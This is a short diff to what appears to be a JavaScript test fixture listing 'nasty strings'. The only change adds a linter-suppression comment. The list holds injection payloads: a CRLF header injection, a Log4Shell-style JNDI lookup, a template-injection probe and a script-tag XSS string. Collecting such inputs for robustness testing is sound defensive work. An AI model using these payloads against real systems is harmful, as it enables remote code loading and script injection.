@@ -50,6 +50,7 @@ const NASTY_STRINGS = [
   '😀'.repeat(40),
   'e\u0301'.repeat(30),
   '\r\n\r\nX-Injected: 1',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a log-injection payload, on purpose.
   '${jndi:ldap://x}',
   '{{7*7}}',
   '<script>alert(1)</script>',
